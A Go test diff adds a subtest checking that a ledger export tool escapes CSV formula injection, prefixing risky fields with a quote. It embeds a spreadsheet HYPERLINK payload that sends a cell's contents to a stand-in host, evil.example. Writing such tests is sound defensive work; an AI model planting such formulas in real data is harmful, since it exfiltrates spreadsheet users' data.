@@ -72,6 +72,41 @@ func TestExport(t *testing.T) {
 		}
 	})
 
+	t.Run("CSVFormulas", func(t *testing.T) {
+		// An order_ref is the customer's own text: a spreadsheet must not run it.
+		dir := t.TempDir()
+		s := openLedgerStack(t, dir, true)
+		ctx := t.Context()
+		if _, _, err := s.inv.PutSKU(ctx, "-sale", revguard.SKUUpdate{Stock: 5, PerCustomerLimit: 1, HoldSeconds: 60}); err != nil {
+			t.Fatal(err)
+		}
+		r, _, err := s.inv.Reserve(ctx, revguard.ReserveRequest{SKU: "-sale", CustomerID: "@c", Quantity: 1})
+		if err != nil {
+			t.Fatal(err)
+		}
+		const ref = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+		if _, err := s.inv.Confirm(ctx, revguard.ConfirmRequest{ID: r.ID, CustomerID: "@c", OrderRef: ref}); err != nil {
+			t.Fatal(err)
+		}
+		s.catchUp(t)
+		s.close(t)
+		out, _, err := runExport(t, dir, false)
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("CSV %q: %v", out, err)
+		}
+		if row := recs[1]; row[1] != "'-sale" || row[2] != "'@c" || row[9] != "'"+ref {
+			t.Errorf("row %q: want sku, customer_id and order_ref each with a leading '", row)
+		}
+		out, _, err = runExport(t, dir, false, "--format", "jsonl")
+		if err != nil || !strings.Contains(out, `"order_ref":"=HYPERLINK(`) || !strings.Contains(out, `"sku":"-sale"`) {
+			t.Errorf("jsonl %q, %v: want the values as they are", out, err)
+		}
+	})
+
 	t.Run("JSONL", func(t *testing.T) {
 		out, _, err := runExport(t, dir, false, "--format", "jsonl", "--sku", "shoe")
 		if err != nil {
